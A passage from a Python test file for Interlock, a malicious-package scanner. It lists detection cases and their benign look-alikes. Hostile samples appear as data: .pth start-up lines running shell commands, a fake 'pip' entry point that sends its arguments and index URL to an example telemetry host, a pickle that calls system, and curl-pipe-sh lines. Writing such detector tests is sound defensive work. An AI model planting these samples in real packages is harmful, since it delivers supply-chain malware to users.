        "archive-nesting-too-deep", L, lambda: _nested(3), "pkg/level1.zip!/level2.zip!/level3.zip", None, None
    ),
    "archive-unreadable-member/bad-crc": Positive("archive-unreadable-member", L, _bad_crc, "pkg/data.txt", None, None),
    "archive-disguised/python-zip-named-typed": Positive(
        "archive-disguised", H,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/_ws.typed", zip_bytes([("hook.py", b"import os\n")]))]),
        "pkg/_ws.typed", None, None,
    ),
    "archive-disguised/program-zip-named-dat": Positive(
        "archive-disguised", M,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/logo.dat", zip_bytes([("bin/agent.so", b"\x7fELF"), ("run.sh", b"./agent\n")]))]),
        "pkg/logo.dat", None, None,
    ),
    "archive-disguised/document-zip-is-only-noted": Positive(
        # langchain-community's sdist ships tests/examples/fake.vsdx: a Visio drawing is a zip.
        "archive-disguised", L,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("tests/examples/fake.vsdx", zip_bytes([("[Content_Types].xml", b"<Types/>")]))]),
        "tests/examples/fake.vsdx", None, None,
    ),
    "record-mismatch/module-added-after-the-build": Positive(
        "record-mismatch", H, lambda: _wheel_then(lambda m: m.update({"demo/_hook.py": b"import os\n"})), "demo/_hook.py", None, None
    ),
    "record-mismatch/module-edited-after-the-build": Positive(
        "record-mismatch", H,
        lambda: _wheel_then(lambda m: m.update({"demo/__init__.py": b"VALUE = 2\n"})), "demo/__init__.py", None, None,
    ),
    "metadata-mismatch/another-project-in-metadata": Positive(
        "metadata-mismatch", H,
        lambda: _wheel_then(lambda m: m.update({"demo-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: requests\nVersion: 1.0\n"})),
        "demo-1.0.dist-info/METADATA", None, None,
    ),
    # odd sources -------------------------------------------------------------------------------
    "source-unparseable/python-2": Positive(
        "source-unparseable", L, W({"pkg/old.py": "x = 1\nprint 'hello'\n"}), "pkg/old.py", 2, None
    ),
    "source-unparseable/100000-open-parentheses": Positive(
        "source-unparseable", L, W({"pkg/deep.py": "x = " + "(" * 100_000 + "1" + ")" * 100_000 + "\n"}), "pkg/deep.py", 1, None
    ),
    "source-null-bytes/nul-in-source": Positive(
        "source-null-bytes", M, W({"pkg/mod.py": b"x = 1\n\x00\nimport os\n"}), "pkg/mod.py", 1, None
    ),
    "source-not-utf8/latin-1-without-cookie": Positive(
        "source-not-utf8", L, W({"pkg/mod.py": b"s = 'caf\xe9'\n"}), "pkg/mod.py", 1, None
    ),
    "source-too-deep/100000-unary-minus": Positive(
        "source-too-deep", M, W({"pkg/deep.py": "x = " + "-" * 100_000 + "1\n"}), "pkg/deep.py", 1, None
    ),
    "source-too-deep/3000-term-concatenation": Positive(
        "source-too-deep", M, W({"pkg/deep.py": "x = " + "'a' + " * 3000 + "'a'\n"}), "pkg/deep.py", 1, None
    ),
    "source-too-large/over-token-budget": Positive(
        "source-too-large", M, W({"pkg/table.py": "x = [" + "1," * 200_001 + "]\n"}), "pkg/table.py", 1, None
    ),
    "source-too-large/over-kept-size": Positive(
        "source-too-large", M,
        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/big.py", b"x = 1\n" * 100)], limits=Limits(max_kept_bytes=100)),
        "pkg/big.py", 1, None,
    ),
    # start-up hooks, entry points, install hooks -----------------------------------------------
    "startup-pth-exec/pth-spawns-process": Positive(
        "startup-pth-exec", H, W({"demo_init.pth": "import os; os.system('id')\n"}), "demo_init.pth", 1, "startup"
    ),
    "startup-pth-exec/pth-imports-shipped-module": Positive(
        "startup-pth-exec", M,
        W({"demo_init.pth": "/opt/demo\nimport demo_hook\n", "demo_hook.py": "VALUE = 1\n"}),
        "demo_init.pth", 2, "startup",
    ),
    "startup-pth-exec/namespace-package-shape-is-info": Positive(
        "startup-pth-exec", I, W({"zope.interface-5.0-nspkg.pth": NSPKG + "\n"}), "zope.interface-5.0-nspkg.pth", 1, "startup"
    ),
    "startup-pth-exec/pth-in-wheel-purelib": Positive(
        "startup-pth-exec", H,
        W({"demo-1.0.data/purelib/demo.pth": "import os; os.system('id')\n"}),
        "demo-1.0.data/purelib/demo.pth", 1, "startup",
    ),
    "startup-sitecustomize/wheel-root": Positive(
        "startup-sitecustomize", H, W({"sitecustomize.py": "VALUE = 1\n"}), "sitecustomize.py", None, "startup"
    ),
    "startup-sitecustomize/usercustomize-in-purelib": Positive(
        "startup-sitecustomize", H,
        W({"demo-1.0.data/purelib/usercustomize.py": "VALUE = 1\n"}),
        "demo-1.0.data/purelib/usercustomize.py", None, "startup",
    ),
    "entrypoint-shadows-command/pip-in-another-project": Positive(
        "entrypoint-shadows-command", H,
        W({"evil/cli.py": "def main():\n    pass\n"}, name="evil", entry_points="[console_scripts]\npip = evil.cli:main\n"),
        "evil-1.0.dist-info/entry_points.txt", 2, None,
    ),
    "entrypoint-shadows-command/pip-that-posts-what-it-is-given": Positive(
        "entrypoint-shadows-command", C,
        W({"evil/cli.py": """
            import os
            import sys
            import requests

            def main():
                requests.post("https://telemetry.example.com/", json={"argv": sys.argv, "index": os.environ.get("PIP_INDEX_URL")})
                os.execvp("python3", ["python3", "-m", "pip", *sys.argv[1:]])
        """}, name="evil", entry_points="[console_scripts]\npip = evil.cli:main\n"),
        "evil-1.0.dist-info/entry_points.txt", 2, None,
    ),
    "entrypoint-shadows-command/script-file-installed-as-pip": Positive(
        "entrypoint-shadows-command", H,
        W({"demo-1.0.data/scripts/pip": "#!python\nimport sys\nprint(sys.argv)\n"}),
        "demo-1.0.data/scripts/pip", 1, None,
    ),
    "entrypoint-shadows-command/script-file-installed-as-pip-that-posts": Positive(
        "entrypoint-shadows-command", C,
        W({"demo-1.0.data/scripts/pip": "#!python\nimport sys\nimport urllib.request\nurllib.request.urlopen('https://t.example.com/', data=' '.join(sys.argv).encode())\n"}),
        "demo-1.0.data/scripts/pip", 1, None,
    ),
    "pickle-code/model-file-runs-a-command": Positive(
        "pickle-code", C,
        W({"pkg/__init__.py": "", "pkg/model.pkl": b"\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."}),
        "pkg/model.pkl", None, None,
    ),
    "entrypoint-shadows-command/python-in-setup-py": Positive(
        "entrypoint-shadows-command", H,
        S({"setup.py": """
            from setuptools import setup
            setup(
                name="demo",
                entry_points={"console_scripts": ["python = demo.shim:main"]},
            )
        """}),
        "setup.py", 4, None,
    ),
    "install-hook/cmdclass-install-override": Positive(
        "install-hook", L,
        S({"setup.py": """
            from setuptools import setup
            from setuptools.command.install import install

            class PostInstall(install):
                def run(self):
                    install.run(self)

            setup(name="demo", cmdclass={"install": PostInstall})
        """}),
        "setup.py", 4, "install",
    ),
}  # fmt: skip


# -- negative cases: the closest benign look-alikes --------------------------------------------

NEGATIVE: dict[str, Negative] = {
    "multiple-threats/only-two-threat-kinds": Negative(
        "multiple-threats",
        W({"pkg/mod.py": """
            import subprocess
            def f():
                subprocess.run("curl -fsSL https://example.org/x.sh -o x.sh", shell=True)
                open("/etc/cron.d/job", "w").write("* * * * * root /usr/bin/true")
        """}),
    ),
    "credential-exfiltration/cloud-sdk-reads-its-own-credentials-when-called": Negative(
        "credential-exfiltration",
        W({"pkg/session.py": """
            import configparser
            import os
            import requests

            def load_credentials(profile="default"):
                parser = configparser.ConfigParser()
                parser.read(os.path.expanduser("~/.aws/credentials"))
                return parser[profile]

            def call(url, creds):
                return requests.get(url, auth=(creds["aws_access_key_id"], creds["aws_secret_access_key"]))
        """}),
    ),
    "credential-harvest/cookie-library-reads-a-browser-when-called": Negative(
        "credential-harvest",
        W({"pkg/cookies.py": """
            import os
            import win32crypt

            def chrome_key():
                state = open(os.path.expandvars("%LOCALAPPDATA%\\\\Google\\\\Chrome\\\\User Data\\\\Local State")).read()
                return win32crypt.CryptUnprotectData(state, None, None, None, 0)
        """}),
    ),
    "wallet-secret-sent/signed-transaction-posted": Negative(
        "wallet-secret-sent",
        W({"pkg/wallet.py": """
            import requests

            def broadcast(address, signed):
                requests.post("https://rpc.example.com", json={"from": address, "raw_transaction": signed})
        """}),
    ),
    "typosquat/the-popular-project-itself": Negative("typosquat", W({"requests/__init__.py": ""}, name="requests")),
    "typosquat-dependency/genuine-projects-an-edit-or-affix-from-popular-ones": Negative(
        "typosquat-dependency", S({"demo.egg-info/requires.txt": "deepdish\ndython\nhttpx2\n", "demo/__init__.py": ""})
    ),
    "typosquat-dependency/popular-dependencies": Negative(
        "typosquat-dependency", S({"demo.egg-info/requires.txt": "requests>=2\n[socks]\nPySocks>=1.5\n", "demo/__init__.py": ""})
    ),
    "host-exfiltration/usage-report-in-uncalled-function": Negative(
        "host-exfiltration",
        W({"pkg/usage.py": """
            import getpass
            import requests

            def report_usage(url):
                requests.post(url, data={"user": getpass.getuser()})
        """}),
    ),
    "host-exfiltration/setup-py-uses-user-name-without-sending": Negative(
        "host-exfiltration",
        S({"setup.py": """
            import getpass
            from setuptools import setup
            setup(name="demo", author=getpass.getuser())
        """}),
    ),
    "beacon/ip-lookup-service-when-called": Negative(
        "beacon",
        W({"pkg/geo.py": """
            import requests

            def where_am_i():
                return requests.get("https://ipinfo.io/json").json()
        """}),
    ),
    "beacon/loopback-at-import": Negative(
        "beacon",
        W({"pkg/__init__.py": """
            import requests
            requests.get("http://127.0.0.1:8000/health")
        """}),
    ),
    "hidden-command/decoded-harmless-command": Negative(
        "hidden-command",
        W({"pkg/mod.py": f"""
            import base64
            import os

            def update():
                os.system(base64.b64decode("{LISTING}").decode())
        """}),
    ),
    "hidden-command/plain-curl-pipe-sh": Negative(
        "hidden-command",
        W({"pkg/mod.py": """
            import os

            def update():
                os.system("curl -fsSL https://example.org/x.sh | sh")
        """}),
    ),
    "persistence-install/service-installer-when-called": Negative(
        "persistence-install",
        W({"pkg/service.py": """
            import os

            def install_service():
                with open(os.path.expanduser("~/.config/systemd/user/demo.service"), "w") as unit:
                    unit.write("[Service]")
        """}),
    ),
    "persistence/crontab-as-a-field-name": Negative(
        # demisto-sdk's schema models: a field aliased "crontab".
        "persistence",
        W({"pkg/models.py": """
            from pydantic import BaseModel, Field
            class CorrelationRule(BaseModel):
                cron_tab: str = Field(None, alias="crontab")
        """}),
    ),
    "persistence/scheduled-task-ended-at-import": Negative(
        # comfy-test ends a browser task it started; ending a task makes nothing run again.
        "persistence",
        W({"pkg/driver.py": """
            import subprocess
            subprocess.Popen(["schtasks", "/end", "/tn", "comfy-test-browser-ui"])
        """}),
    ),
    "persistence-install/reads-bashrc-at-import": Negative(
        "persistence-install",
        W({"pkg/__init__.py": """
            import os
            ALIASES = open(os.path.expanduser("~/.bashrc")).read()
        """}),
    ),
    "download-and-run/setup-py-fetches-sources-and-runs-cmake": Negative(
        "download-and-run",
        S({"setup.py": """
            import subprocess
            import tarfile
            import urllib.request
            from setuptools import setup

            urllib.request.urlretrieve("https://downloads.example.org/libfoo-1.2.tar.gz", "libfoo.tar.gz")
            tarfile.open("libfoo.tar.gz").extractall("build")
            subprocess.check_call(["cmake", "-S", "build/libfoo", "-B", "build/out"])
            setup(name="demo")
        """}),
    ),
    "credential-exfiltration/config-reader-and-opener-merely-named-at-import": Negative(
        # setuptools 65's package_index: a class reads ~/.pypirc for upload credentials, a function
        # opens URLs with them; at import the function is only wrapped, never called.
        "credential-exfiltration",
        W({"pkg/package_index.py": """
            import configparser
            import os
            import urllib.request

            class PyPIConfig(configparser.RawConfigParser):
                def __init__(self):
                    super().__init__()
                    rc = os.path.join(os.path.expanduser("~"), ".pypirc")
                    if os.path.exists(rc):
                        self.read(rc)

            def open_with_auth(url, opener=urllib.request.urlopen):
                config = PyPIConfig()
                request = urllib.request.Request(url)
                return opener(request)

            def socket_timeout(seconds):
                return lambda function: function

            open_with_auth = socket_timeout(15)(open_with_auth)
        """}),
    ),
    "multiple-threats/one-wget-is-not-two-threats": Negative(
        # huggingface_hub's test suite: a test downloads a PDF with wget, then runs its own CLI; another
        # names a webhook test site. The wget is the shell download and the dropper's download both.
        "multiple-threats",
        W({"tests/test_api.py": """
            import subprocess

            def test_upload_large_file(tmp_path):
                subprocess.run(["wget", "https://cdn.example.com/progit.pdf"], cwd=tmp_path)
                subprocess.run(["hf", "lfs-enable-largefiles", tmp_path])

            def test_webhooks():
                url = "https://webhook.site/test"
                return url
        """}),
    ),
    "host-exfiltration/sdk-reads-its-own-key-and-calls-when-asked": Negative(
        # An SDK reads its API key at import and sends it only when the user calls it.
        "host-exfiltration",
        W({"pkg/__init__.py": """
            import os
            import requests

            api_key = os.environ.get("DEMO_API_KEY")

            def complete(prompt):
                return requests.post("https://api.example.com/v1/complete", headers={"Authorization": api_key}, json={"prompt": prompt})
        """}),
    ),
    "host-exfiltration/setup-py-downloads-by-a-runtime-id-from-the-environment": Negative(
        # artifacts-keyring's setup.py: the variable names a platform, not a secret.
        "host-exfiltration",
        S({"setup.py": """
            import os
            import urllib.request
            from setuptools import setup

            runtime = os.environ.get("ARTIFACTS_CREDENTIAL_PROVIDER_RID", "linux-x64")
            urllib.request.urlopen("https://downloads.example.com/provider-" + runtime + ".zip").read()
            setup(name="demo")
        """}),
    ),
    "input-capture/copy-to-clipboard-when-asked": Negative(
        "input-capture",
        W({"pkg/cli.py": """
            import pyperclip
            from pynput import keyboard

            def copy_result(text):
                pyperclip.copy(text)

            def wait_for_hotkey(callback):
                with keyboard.Listener(on_press=callback) as listener:
                    listener.join()
        """}),
    ),
    "shell-download/shipped-script-a-person-runs": Negative(
        # A CI helper in the release that nothing in it starts: not judged.
        "shell-download",
        S({"setup.py": "from setuptools import setup\nsetup(name='demo')\n", "ci/install_deps.sh": "#!/bin/bash\ncurl -fsSL https://sh.rustup.rs | sh\n"}),
    ),
    "shell-download/shipped-script-a-function-starts-when-called": Negative(
        "shell-download",
        W({
            "pkg/tools.py": "import subprocess\n\ndef bootstrap():\n    subprocess.run(['bash', 'install_tools.sh'])\n",
            "pkg/install_tools.sh": "#!/bin/bash\ncurl -fsSL https://get.example.com/tool.sh | sh\n",
        }),
    ),
    "host-exfiltration/client-sends-its-one-api-key": Negative(
        # eth-brownie: fetching a contract's source from the explorer's API with the user's key.
        "host-exfiltration",
        W({"pkg/contract.py": """
            import os
            import requests

            def _fetch_source(address):
                params = {"module": "contract", "address": address}
                key = os.getenv("ETHERSCAN_TOKEN")
                if key is not None:
                    params["apiKey"] = key
                return requests.get("https://api.explorer.example.com/v2/api", params=params)

            SOURCES = {"mainnet": _fetch_source}
        """}),
    ),
    "beacon/notifier-posts-to-the-webhook-it-is-given": Negative(
        # A notification library: the webhook is the caller's, handed in when called.
        "beacon",
        W({"pkg/notify.py": """
            import requests

            DEFAULT_TIMEOUT = 10

            def send(webhook_url, text):
                return requests.post(webhook_url, json={"content": text}, timeout=DEFAULT_TIMEOUT)
        """}),
    ),
    "env-dump/own-prefix-in-a-start-up-line": Negative(
        # pytest-cov's .pth: on failure, it prints its own COV_CORE_* variables.
        "env-dump",
        W({"demo-cov.pth": "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from demo.embed import init\\n  init()\\n except Exception as exc:\\n  sys.stderr.write(repr(dict((k, v) for k, v in os.environ.items() if k.startswith(\\'COV_CORE\\'))))\\n')\n", "demo/embed.py": "def init():\n    return None\n"}),
    ),
    "download-and-run/setup-py-fetches-a-driver-and-runs-system-programs": Negative(
        # ibm_db's setup.py: downloads IBM's client driver, then runs programs found on PATH.
        "download-and-run",
        S({"setup.py": """
            import io
            import os
            import subprocess
            import urllib.request
            import zipfile
            from setuptools import setup

            status, output = subprocess.getstatusoutput("db2cli validate")
            data = urllib.request.urlopen("https://downloads.example.com/clidriver.zip").read()
            zipfile.ZipFile(io.BytesIO(data)).extractall("clidriver")
            os.system("chtag -r " + os.path.join("clidriver", "lib"))
            setup(name="demo")
        """}),
    ),
    "host-exfiltration/setup-py-picks-a-download-by-machine-type": Negative(
        # ibm_db again: os.uname()[4] chooses which driver build to fetch; it names no one.
        "host-exfiltration",
        S({"setup.py": """
            import os
            import platform
            import urllib.request
            from setuptools import setup

            if "ppc64le" in os.uname()[4] or platform.uname().machine == "s390x":
                url = "https://downloads.example.com/driver-" + os.uname().machine + ".tar.gz"
                urllib.request.urlopen(url).read()
            setup(name="demo")
        """}),
    ),
    "process-spawn/setup-py-publish-command-pip-never-runs": Negative(
        # pyexcel-io's and simple-term-menu's setup.py: release helpers only a maintainer types.
        "process-spawn",
        S({"setup.py": """
            import os
            import subprocess
            from setuptools import Command, setup

            class PublishCommand(Command):
                user_options = []
                def run(self):
                    os.system("gease pyexcel-io v0.6.8")
                    subprocess.check_call(["twine", "upload", "dist/*"])

            COMMANDS = {}
            COMMANDS.update({"publish": PublishCommand})
            setup(name="demo", cmdclass=COMMANDS)
        """}),
    ),
    "download-and-run/setup-py-release-branch-on-argv": Negative(
        # telethon's setup.py: `setup.py pypi` checks a web page and uploads; pip never asks for it.
        "download-and-run",
        S({"setup.py": """
            import sys
            import urllib.request
            from subprocess import run
            from setuptools import setup

            def main(argv):
                if len(argv) >= 2 and argv[1] == "pypi":
                    html = urllib.request.urlopen("https://docs.example.org/").read()
                    run("python3 setup.py sdist", shell=True)
                    run("twine upload dist/*", shell=True)
                elif sys.argv[-1] in ("gen", "clean"):
                    run("rm -rf build", shell=True)
                else:
                    setup(name="demo")

            if __name__ == "__main__":
                main(sys.argv)
        """}),
    ),
    "download-and-run/project-runs-its-own-command": Negative(
        # fastapi's sdist: docs scripts start `fastapi run` (a program on PATH) on a tutorial, then fetch a page from it.
        "download-and-run",
        S({"scripts/screenshots/image01.py": """
            import subprocess
            import httpx

            process = subprocess.Popen(["demo", "run", "docs_src/tutorial001.py"])
            httpx.get("http://localhost:8000/docs")
            process.terminate()
        """}),
    ),
    "download-and-run/utilities-merely-named-at-import": Negative(
        # setuptools' vendored jaraco.context: one function downloads a tarball, another is an
        # rmtree error handler that chmods; both are only handed to helpers at import.
        "download-and-run",
        W({"pkg/context.py": """
            import functools
            import os
            import shutil
            import stat
            import urllib.request

            def tarball(url, target_dir):
                req = urllib.request.urlopen(url)
                return req

            def remove_readonly(func, path, exc_info):
                os.chmod(path, stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)
                func(path)

            def robust_remover():
                return functools.partial(shutil.rmtree, onerror=remove_readonly)

            def compose(*managers):
                return managers

            tarball_cwd = compose(os.getcwd, tarball)
            robust_rmtree = functools.partial(shutil.rmtree, onerror=robust_remover())
        """}),
    ),
    "download-and-run/cache-download-when-called": Negative(
        "download-and-run",
        W({"pkg/cache.py": """
            import requests

            def refresh(path):
                with open(path, "wb") as handle:
                    handle.write(requests.get("https://example.org/data.json").content)
        """}),
    ),
    "obfuscated-exec/blob-and-exec-only-when-called": Negative(
        "obfuscated-exec",
        W({"pkg/assets.py": f"""
            ICON = "{BLOB}"

            def run_plugin(source):
                exec(source)
        """}),
    ),
    "process-spawn/subprocess-in-uncalled-function": Negative(
        "process-spawn",
        W({"pkg/cli.py": """
            import subprocess
            def run(args):
                return subprocess.run(["git", *args], check=True)
        """}),
    ),
    "process-spawn/git-at-import-is-a-build-tool": Negative(
        "process-spawn",
        W({"pkg/_version.py": """
            import subprocess
            VERSION = subprocess.run(["git", "describe"], capture_output=True).stdout
        """}),
    ),
    "process-spawn/main-guard": Negative(
        "process-spawn",
        W({"pkg/tool.py": """
            import os
            if __name__ == "__main__":
                os.system("make docs")
        """}),
    ),
    "shell-download/curl-in-a-help-text-constant": Negative(
        "shell-download",
        W({"pkg/help.py": """
            INSTALL_HINT = "curl -fsSL https://example.org/get.sh | sh"

            def hint():
                print(INSTALL_HINT)
        """}),
    ),
    "shell-download/curl-version-probe": Negative(
        "shell-download",
        W({"pkg/probe.py": """
            import subprocess
            def curl_version():
                return subprocess.run(["curl", "--version"], capture_output=True).stdout
        """}),
    ),
    "powershell-hidden/visible-powershell-command": Negative(
        "powershell-hidden",
        W({"pkg/win.py": """
            import subprocess
            def listing():
                return subprocess.run(["powershell", "-NoProfile", "-Command", "Get-ChildItem"], capture_output=True)
        """}),
    ),
    "dynamic-exec/exec-of-literal-code": Negative("dynamic-exec", W({"pkg/__init__.py": 'exec("VERSION = (1, 0)")\n'})),
    "dynamic-exec/exec-in-uncalled-function": Negative(
        "dynamic-exec",
        W({"pkg/plugins.py": """
            def run_plugin(source):
                exec(source)
        """}),
    ),
    "decoded-exec/png-blob-decoded-to-a-constant": Negative(
        "decoded-exec",
        W({"pkg/icons.py": f"""
            import base64

            ICON = base64.b64decode("{PNG}")
        """}),
    ),
    "download-exec/json-response-parsed": Negative(
        "download-exec",
        W({"pkg/remote.py": """
            import json
            from urllib.request import urlopen
            def load(url):
                return json.loads(urlopen(url).read())
        """}),
    ),
    "network-access/request-in-uncalled-function": Negative(
        "network-access",
        W({"pkg/__init__.py": """
            import requests

            def ping():
                requests.get("https://telemetry.example.com/ping")
        """}),
    ),
    "network-access/session-created-at-import": Negative(
        "network-access",
        W({"pkg/__init__.py": """
            import requests
            SESSION = requests.Session()
        """}),
    ),
    "dns-lookup/resolver-helper": Negative(
        "dns-lookup",
        W({"pkg/net.py": """
            import socket
            def resolve(host):
                return socket.gethostbyname(host)
        """}),
    ),
    "exfil-endpoint/loopback-url": Negative(
        "exfil-endpoint",
        W({"pkg/dev.py": """
            import requests
            def local():
                return requests.get("http://127.0.0.1:8000/health")
        """}),
    ),
    "exfil-endpoint/ordinary-api-url": Negative(
        "exfil-endpoint",
        S({"setup.py": """
            from setuptools import setup
            setup(name="demo", url="https://example.org/demo")
        """}),
    ),
    "credential-access/sdk-default-path-constant": Negative(
        "credential-access",
        W({"pkg/config.py": """
            import os
            DEFAULT_CREDENTIALS = "~/.aws/credentials"

            def credentials_path():
                return os.path.expanduser(os.environ.get("AWS_SHARED_CREDENTIALS_FILE", DEFAULT_CREDENTIALS))
        """}),
    ),
    "credential-access/docstring-mentions-ssh-key": Negative(
        "credential-access",
        S({"setup.py": '''
            """Generates ~/.ssh/id_rsa for you (see docs); nothing is read at install."""
            from setuptools import setup
            setup(name="demo")
        '''}),
    ),
    "env-dump/single-variable-read": Negative(
        "env-dump",
        S({"setup.py": """
            import os
            from setuptools import setup
            debug = os.environ.get("DEMO_DEBUG") == "1"
            setup(name="demo")
        """}),
    ),
    "host-fingerprint/host-name-at-import": Negative(
        "host-fingerprint",
        W({"pkg/__init__.py": """
            import socket
            HOST = socket.gethostname()
        """}),
    ),
    "persistence/table-of-rc-file-names": Negative(
        "persistence",
        W({"pkg/shells.py": """
            RC_FILES = ["~/.bashrc", "~/.zshrc", "~/.profile"]

            def rc_files():
                return list(RC_FILES)
        """}),
    ),
    "kubernetes-takeover/client-library-constant": Negative(
        "kubernetes-takeover",
        W({"pkg/incluster.py": """
            SERVICE_TOKEN_FILENAME = "/var/run/secrets/kubernetes.io/serviceaccount/token"

            def load_token():
                with open(SERVICE_TOKEN_FILENAME) as handle:
                    return handle.read()
        """}),
    ),
    "obfuscated-code/long-prose-constant": Negative("obfuscated-code", W({"pkg/license.py": f"LICENSE = {LICENSE_TEXT!r}\n"})),
    "obfuscated-code/short-base64": Negative("obfuscated-code", W({"pkg/icons.py": f'DOT = "{BLOB[:800]}"\n'})),
    "defense-evasion/docstring-mentions-defender": Negative(
        "defense-evasion",
        W({"pkg/audit.py": '''
            def audit():
                """Report whether Add-MpPreference was used to add an ExclusionPath."""
                return None
        '''}),
    ),
    "crypto-miner/hashing-library": Negative(
        "crypto-miner",
        W({"pkg/hashing.py": """
            import hashlib
            def proof_of_work(data: bytes) -> str:
                return hashlib.sha256(data).hexdigest()
        """}),
    ),
    "chmod-executable/chmod-without-execute-bits": Negative(
        "chmod-executable",
        S({"setup.py": """
            import os
            from setuptools import setup
            os.chmod("demo/data.json", 0o644)
            setup(name="demo")
        """}),
    ),
    "archive-path-traversal/dots-inside-a-name": Negative(
        "archive-path-traversal", lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/a..b.py", b"x = 1\n")])
    ),
    "archive-absolute-path/ordinary-wheel": Negative("archive-absolute-path", W({"pkg/__init__.py": "x = 1\n"})),
    "archive-link/regular-tar-member": Negative(
        "archive-link", lambda: tar_artifact([_pkg_info(), tar_member("demo-1.0/key.txt", b"not a key\n")])
    ),
    "archive-device/regular-tar-member": Negative(
        "archive-device", lambda: tar_artifact([_pkg_info(), tar_member("demo-1.0/null.txt", b"")])
    ),
    "archive-duplicate-member/same-name-in-two-directories": Negative(
        "archive-duplicate-member", lambda: _zip_duplicate("pkg/__init__.py", "pkg/sub/__init__.py")
    ),
    "archive-compression-ratio/incompressible-data": Negative(
        "archive-compression-ratio",
        lambda: zip_artifact(
            [("pkg/__init__.py", b""), ("pkg/random.bin", random.Random(1).randbytes(1024 * 1024))], limits=BOMB_LIMITS
        ),
    ),
    "archive-compression-ratio/small-zeros-under-the-bomb-floor": Negative(
        "archive-compression-ratio",
        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/zeros.bin", bytes(32 * 1024))], limits=BOMB_LIMITS),
    ),
    "archive-member-too-large/exactly-at-limit": Negative(
        "archive-member-too-large",
        lambda: zip_artifact([("pkg/__init__.py", b""), ("pkg/big.bin", bytes(4096))], limits=Limits(max_member_bytes=4096)),
    ),
    "archive-nesting-too-deep/one-nested-archive": Negative("archive-nesting-too-deep", lambda: _nested(1)),
    "record-mismatch/wheel-as-built": Negative("record-mismatch", lambda: _wheel_then(lambda m: None)),
    "metadata-mismatch/normalised-name-and-version": Negative(
        "metadata-mismatch",
        lambda: _wheel_then(lambda m: m.update({"demo-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: Demo\nVersion: 1.0.0\n"})),
    ),
    "archive-disguised/zip-based-formats-named-as-such": Negative(
        "archive-disguised",
        lambda: zip_artifact(
            [("pkg/__init__.py", b""), ("pkg/app.pyz", zip_bytes([("__main__.py", b"x = 1\n")])), ("pkg/table.xlsx", zip_bytes([("a.xml", b"<a/>")]))]
        ),
    ),
    "archive-unreadable-member/intact-stored-zip": Negative("archive-unreadable-member", _intact_stored_zip),
    "source-unparseable/valid-python-3": Negative("source-unparseable", W({"pkg/new.py": "print('hello')\n"})),
    "source-null-bytes/escaped-nul-in-a-literal": Negative("source-null-bytes", W({"pkg/mod.py": b"x = b'\\x00'\n"})),
    "source-not-utf8/latin-1-with-cookie": Negative(
        "source-not-utf8", W({"pkg/mod.py": b"# -*- coding: latin-1 -*-\ns = 'caf\xe9'\n"})
    ),
    "source-too-deep/fifty-parentheses": Negative(
        "source-too-deep", W({"pkg/mod.py": "x = " + "(" * 50 + "1" + ")" * 50 + "\n"})
    ),
    "source-too-large/ordinary-table": Negative("source-too-large", W({"pkg/table.py": "x = [" + "1," * 1000 + "]\n"})),
    "startup-pth-exec/path-only-pth": Negative("startup-pth-exec", W({"demo.pth": "/opt/demo/lib\n# import os\n"})),
    "startup-pth-exec/pth-inside-a-package": Negative("startup-pth-exec", W({"pkg/demo.pth": "import os; os.system('id')\n"})),
    "startup-pth-exec/indented-import-is-a-path": Negative("startup-pth-exec", W({"demo.pth": b" import os; os.system('id')\n"})),
    "startup-sitecustomize/inside-a-package": Negative("startup-sitecustomize", W({"pkg/sitecustomize.py": "VALUE = 1\n"})),
    "startup-sitecustomize/at-sdist-root": Negative("startup-sitecustomize", S({"sitecustomize.py": "VALUE = 1\n"})),
    "pickle-code/model-file-of-plain-data": Negative(
        "pickle-code",
        W({"pkg/__init__.py": "", "pkg/model.pkl": b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01."}),
    ),
    "entrypoint-shadows-command/pip-in-the-pip-project": Negative(
        "entrypoint-shadows-command",
        W({"pip/_internal/cli.py": "def main():\n    pass\n"}, name="pip", entry_points="[console_scripts]\npip = pip._internal.cli:main\n"),
    ),
    "entrypoint-shadows-command/own-command-name": Negative(
        "entrypoint-shadows-command",
        W({"demo/cli.py": "def main():\n    pass\n"}, entry_points="[console_scripts]\ndemo = demo.cli:main\npipx-demo = demo.cli:main\n"),
    ),
    "install-hook/custom-non-install-command": Negative(
        "install-hook",
        S({"setup.py": """
            from setuptools import Command, setup

            class Clean(Command):
                user_options = []
                def run(self):
                    pass

            setup(name="demo", cmdclass={"clean": Clean})
        """}),
    ),
}  # fmt: skip


# -- the tests ----------------------------------------------------------------------------------


# Rules raised from what the index says about a release, or from two releases, not from one
# release's files: their malicious and benign examples live in these modules.
TESTED_WITH_AN_INDEX = {
    "provenance-invalid": "test_provenance.py",
    "provenance-missing": "test_provenance.py",
    "publisher-changed": "test_provenance.py",
    # Rules over two releases' metadata: their examples are diffs.
    "version-jump": "test_diff.py",
    "dependency-added-in-patch": "test_diff.py",
    "maintainer-changed": "test_diff.py",
    "project-urls-changed": "test_diff.py",
    "wheel-not-from-sdist": "test_diff.py",
    "known-malicious": "test_intel.py",
    # A failure of Interlock itself, and of a user's YARA rules: their examples break the analysis.
    "analysis-error": "test_fail_closed.py",
    "yara-error": "test_fail_closed.py",
}


def test_every_rule_has_a_positive_case() -> None:
    missing = sorted(
        {rule.id for rule in ALL_RULES} - {case.rule for case in POSITIVE.values()} - set(TESTED_WITH_AN_INDEX)
    )
    assert not missing, f"rules without a positive example in tests/test_rules.py: {missing}"


def test_every_rule_has_a_negative_case() -> None:
    missing = sorted(
        {rule.id for rule in ALL_RULES} - {case.rule for case in NEGATIVE.values()} - set(TESTED_WITH_AN_INDEX)
    )
    assert not missing, f"rules without a benign look-alike in tests/test_rules.py: {missing}"


@pytest.mark.parametrize("rule_id", sorted(TESTED_WITH_AN_INDEX))
def test_rules_tested_with_an_index_are_tested_there(rule_id: str) -> None:
    source = (Path(__file__).parent / TESTED_WITH_AN_INDEX[rule_id]).read_text()
    assert rule_id in RULES_BY_ID
